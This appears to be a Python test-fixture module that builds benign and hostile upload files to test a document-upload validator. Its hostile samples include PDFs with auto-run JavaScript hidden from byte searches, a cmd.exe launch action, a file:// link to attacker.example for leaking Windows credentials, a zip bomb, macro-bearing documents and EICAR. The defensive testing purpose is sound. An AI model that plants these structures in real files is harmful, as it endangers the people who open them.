"""Good and bad uploads, built in memory: the corpus the upload tests try.

GOOD and BAD at the end list every sample with what is expected of it; the
builders above them are also used on their own by other tests.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf

_DOCX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>'
    "</Types>"
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def minimal_pdf(text: str = "Chronology", *, catalog: bytes = b"", comment: bytes = b"") -> bytes:
    """A one-page PDF with a correct cross-reference table; `catalog` adds entries to its catalog."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< " + catalog + b" /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    if comment:
        out.write(b"%" + comment + b"\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def _zip(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def minimal_docx(main: str = DOCX_MAIN, extra: dict[str, bytes] | None = None) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _DOCX_TYPES.format(main=main).encode(),
            "word/document.xml": b"<w:document/>",
            **(extra or {}),
        }
    )


def minimal_odt(extra: dict[str, bytes] | None = None) -> bytes:
    return _zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<office:document-content/>",
            "META-INF/manifest.xml": b"<manifest/>",
            **(extra or {}),
        }
    )


def docm() -> bytes:
    return minimal_docx(main=DOCM_MAIN, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def docx_with_vba_part_only() -> bytes:
    """Claims to be a plain .docx but carries a VBA project."""
    return minimal_docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def odt_with_basic_macros() -> bytes:
    return minimal_odt(extra={"Basic/Standard/Module1.xml": b"<script:module/>"})


def windows_exe() -> bytes:
    return b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode." + b"\x00" * 200


def elf_binary() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 200


def zip_bomb(megabytes: int = 300) -> bytes:
    """A .docx-shaped zip whose one entry inflates from ~300 KB to `megabytes` MB of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _DOCX_TYPES.format(main=DOCX_MAIN).encode())
        with archive.open("word/document.xml", "w", force_zip64=True) as entry:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(megabytes):
                entry.write(chunk)
    return out.getvalue()


def many_entries(count: int = 5000) -> bytes:
    return minimal_docx(extra={f"word/media/{i}.xml": b"x" for i in range(count)})


def legacy_doc() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500


def plain_text() -> bytes:
    return b"Just some notes, not a document format."


def pdf_with_javascript() -> bytes:
    return minimal_pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")


def xlsx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _DOCX_TYPES.format(
                main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
            ).encode(),
            "xl/workbook.xml": b"<workbook/>",
        }
    )


# --- PDFs built with pikepdf: hostile structure the old byte search missed -----------------

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _pikepdf(edit: Callable[[pikepdf.Pdf], None], **save: Any) -> bytes:
    """The minimal PDF opened, changed by `edit`, and saved with qpdf (compressed by default)."""
    pdf = pikepdf.open(io.BytesIO(minimal_pdf()))
    edit(pdf)
    out = io.BytesIO()
    pdf.save(out, **{"compress_streams": True, **save})
    return out.getvalue()


def clean_pdf_in_object_streams() -> bytes:
    return _pikepdf(lambda pdf: None, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_web_link() -> bytes:
    """A clickable https link, as Word writes for every hyperlink: kept (core/uploads/pdf.py)."""

    def edit(pdf: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[72, 700, 200, 720],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.gov.uk/")),
        )
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))

    return _pikepdf(edit)


def pdf_with_escaped_javascript_name() -> bytes:
    """`/J#61vaScript` and `/J#53` are /JavaScript and /JS to a viewer, but not to a byte search."""
    data = minimal_pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")
    assert b"/JavaScript" not in data and b"/JS" not in data  # the point of this sample
    return data


def pdf_with_javascript_in_object_stream() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        pdf.Root.OpenAction = pdf.make_indirect(action)

    data = _pikepdf(edit, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in data and b"/ObjStm" in data  # the point of this sample
    return data


def pdf_opening_a_web_address() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://tracker.example/x"))

    return _pikepdf(edit)


def pdf_with_page_open_launch() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
        pdf.pages[0].AA = pikepdf.Dictionary(O=launch)

    return _pikepdf(edit, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_open_goto_then_javascript() -> bytes:
    """A harmless first action whose /Next runs a script."""

    def edit(pdf: pikepdf.Pdf) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        pdf.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit], Next=pdf.make_indirect(script)
        )

    return _pikepdf(edit, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_document_javascript() -> bytes:
    """Document-level scripts: a /JavaScript name tree, run when the file opens."""

    def edit(pdf: pikepdf.Pdf) -> None:
        script = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), script]))

    return _pikepdf(edit, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_file_link() -> bytes:
    """A link to a network share: clicking it sends a Windows sign-in to whoever runs the share."""

    def edit(pdf: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[72, 700, 200, 720],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file://attacker.example/share/x")),
        )
        pdf.pages[0].Annots = pikepdf.Array([link])

    return _pikepdf(edit)


def pdf_with_submit_form_button() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://collector.example/"))
        widget = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, Rect=[0, 0, 10, 10], A=submit
        )
        widget = pdf.make_indirect(widget)
        pdf.pages[0].Annots = pikepdf.Array([widget])
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))

    return _pikepdf(edit)


def pdf_with_embedded_file() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(
            pdf, windows_exe(), mime_type="application/x-msdownload"
        )

    return _pikepdf(edit)


def pdf_with_rich_media() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        annot = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.RichMedia,
            Rect=[72, 400, 300, 600],
            RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary(Names=[])),
        )
        pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(annot)])

    return _pikepdf(edit)


def pdf_with_xfa_form() -> bytes:
    def edit(pdf: pikepdf.Pdf) -> None:
        xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)

    return _pikepdf(edit)


def encrypted_pdf() -> bytes:
    return _pikepdf(lambda pdf: None, encryption=pikepdf.Encryption(user="secret", owner="secret"))


def pdf_with_owner_password_only() -> bytes:
    """Opens without a password, but its objects are still encrypted on disk."""
    return _pikepdf(lambda pdf: None, encryption=pikepdf.Encryption(user="", owner="restrictions"))


def truncated_pdf() -> bytes:
    data = minimal_pdf()
    return data[: len(data) // 2]


def pdf_with_broken_cross_reference() -> bytes:
    """Every object moved by padding the header: the cross-reference table points at the wrong bytes."""
    return minimal_pdf().replace(b"%PDF-1.4\n", b"%PDF-1.4\n" + b"%" + b"x" * 40 + b"\n", 1)


def pdf_with_a_broken_object() -> bytes:
    """A font dictionary that never closes: qpdf warns and reads it as something else; a viewer may not."""
    return minimal_pdf().replace(b"/BaseFont /Helvetica >>", b"/BaseFont /Helvetica <<")


def eicar_pdf() -> bytes:
    """The EICAR test string inside an otherwise ordinary PDF (in a comment, as ClamAV scans raw bytes)."""
    return minimal_pdf(comment=EICAR)


# --- Word and OpenDocument files with embedded objects -------------------------------------


def docx_with_ole_object() -> bytes:
    return minimal_docx(extra={"word/embeddings/oleObject1.bin": legacy_doc()})


def docx_with_embedded_workbook() -> bytes:
    """The workbook behind a Word chart: an ordinary .xlsx package, kept."""
    return minimal_docx(extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx()})


def docx_with_workbook_carrying_an_ole_object() -> bytes:
    workbook = _zip(
        {
            "[Content_Types].xml": _DOCX_TYPES.format(
                main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
            ).encode(),
            "xl/workbook.xml": b"<workbook/>",
            "xl/embeddings/oleObject1.bin": legacy_doc(),
        }
    )
    return minimal_docx(extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook})


def docx_with_program_inside() -> bytes:
    return minimal_docx(extra={"word/media/image1.png": windows_exe()})


def odt_with_embedded_object() -> bytes:
    return minimal_odt(
        extra={
            "Object 1/content.xml": b"<office:document-content/>",
            "ObjectReplacements/Object 1": b"\x89PNG\r\n\x1a\n",
        }
    )


def odt_with_ole_object() -> bytes:
    return minimal_odt(extra={"Object 1": legacy_doc()})


def encrypted_docx() -> bytes:
    """What Word writes for a password-protected .docx: an OLE container with an encrypted package."""
    return legacy_doc() + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 64


def eicar_docx() -> bytes:
    """The EICAR string deflated inside a .docx part: only found by a scanner that unpacks zips."""
    return minimal_docx(extra={"word/media/readme.txt": EICAR})


# --- The corpus ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    name: str
    make: Callable[[], bytes]
    # What the user is told (part of it) for a refused file; the kind for an accepted one.
    expect: str
    # What they are told instead when ClamAV, which sees every file first, refuses it itself
    # (its heuristics know some of these tricks too).
    scanned: str = ""

    @property
    def expect_after_scanning(self) -> str:
        return self.scanned or self.expect


GOOD: list[Sample] = [
    Sample("chronology.pdf", minimal_pdf, "pdf"),
    Sample("compressed.pdf", clean_pdf_in_object_streams, "pdf"),
    Sample("with-link.pdf", pdf_with_web_link, "pdf"),
    Sample("assessment.docx", minimal_docx, "docx"),
    Sample("with-chart.docx", docx_with_embedded_workbook, "docx"),
    Sample("plan.odt", minimal_odt, "odt"),
    Sample("misnamed.txt", minimal_pdf, "pdf"),
]

_ACTIVE = "contains active content"
BAD: list[Sample] = [
    Sample("notes.pdf", plain_text, "must be a PDF, Word (.docx) or OpenDocument text (.odt)"),
    Sample("report.pdf", windows_exe, "is a Windows program"),
    Sample("report.docx", elf_binary, "is a Linux program"),
    Sample("macro.docm", docm, "contains macros"),
    Sample("sneaky.docx", docx_with_vba_part_only, "contains macros"),
    Sample("sneaky.odt", odt_with_basic_macros, "contains macros"),
    Sample("bomb.docx", zip_bomb, "archive bomb"),
    Sample("parts.docx", lambda: many_entries(2500), "too many parts"),
    Sample("old.doc", legacy_doc, "old-style Word document"),
    Sample("empty.pdf", lambda: b"", "The selected file is empty"),
    Sample("script.pdf", pdf_with_javascript, _ACTIVE + " (scripts)"),
    Sample("sheet.docx", xlsx, "not a Word document"),
    Sample(
        "escaped-name.pdf",
        pdf_with_escaped_javascript_name,
        _ACTIVE + " (scripts)",
        scanned="contains a virus or other malware",  # Heuristics.PDF.ObfuscatedNameObject
    ),
    Sample("objstm-script.pdf", pdf_with_javascript_in_object_stream, _ACTIVE + " (scripts)"),
    Sample("open-url.pdf", pdf_opening_a_web_address, "opens a web address by itself"),
    Sample("aa-launch.pdf", pdf_with_page_open_launch, "opens a program or file"),
    Sample("chained.pdf", pdf_with_open_goto_then_javascript, _ACTIVE + " (scripts)"),
    Sample("doc-script.pdf", pdf_with_document_javascript, _ACTIVE + " (scripts)"),
    Sample("file-link.pdf", pdf_with_file_link, "a link to a file, a network share"),
    Sample("submit.pdf", pdf_with_submit_form_button, "sends form data"),
    Sample("attachment.pdf", pdf_with_embedded_file, "has files attached to it"),
    Sample("richmedia.pdf", pdf_with_rich_media, "embedded media"),
    Sample("xfa.pdf", pdf_with_xfa_form, "dynamic (XFA) form"),
    Sample("locked.pdf", encrypted_pdf, "password-protected or encrypted"),
    Sample("restricted.pdf", pdf_with_owner_password_only, "password-protected or encrypted"),
    Sample("truncated.pdf", truncated_pdf, "damaged or is not a complete PDF"),
    Sample("broken-xref.pdf", pdf_with_broken_cross_reference, "damaged or is not a complete PDF"),
    Sample("broken-object.pdf", pdf_with_a_broken_object, "damaged or is not a complete PDF"),
    Sample("ole.docx", docx_with_ole_object, "contains an embedded object"),
    Sample("nested-ole.docx", docx_with_workbook_carrying_an_ole_object, "contains an embedded object"),
    Sample("program.docx", docx_with_program_inside, "has a program inside it"),
    Sample("object.odt", odt_with_embedded_object, "contains an embedded object"),
    Sample("ole.odt", odt_with_ole_object, "contains an embedded object"),
    Sample("locked.docx", encrypted_docx, "password-protected Word document"),
]
